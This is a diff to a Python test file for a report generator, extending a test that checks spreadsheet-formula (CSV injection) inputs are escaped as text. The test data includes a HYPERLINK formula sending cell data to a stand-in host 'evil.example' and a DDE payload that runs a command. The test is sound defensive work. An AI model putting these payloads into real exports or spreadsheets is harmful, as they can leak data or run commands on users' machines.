@@ -179,12 +179,13 @@ def test_every_format_renders(site: Project):
         render_report(project, 2024, "pdf", today=TODAY)
 
 
-def test_a_department_named_as_a_formula_reaches_the_report_csv_as_text(site: Project):
-    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+@pytest.mark.parametrize("formula", ['=HYPERLINK("http://evil.example/?"&A1,"点击")',
+                                     '＝HYPERLINK("http://evil.example/?"&A1,"点击")', '＠SUM(1+1)*cmd|" /C calc"!A0'])
+def test_a_department_named_as_a_formula_reaches_the_report_csv_as_text(site: Project, formula: str):
     site.catalog = site.catalog.replace("departments:\n", f"departments:\n  - {{name: '{formula}', slug: evil}}\n", 1)
     site.write_catalog()
     site.report_item("2024-02-01", department=formula)
     site.report(2024, valid_input())
     rows = list(csv.reader(io.StringIO(render_csv(build_report(site.load(), 2024, TODAY)), newline="")))
     assert "'" + formula in [row[2] for row in rows]
-    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")) for row in rows for cell in row)
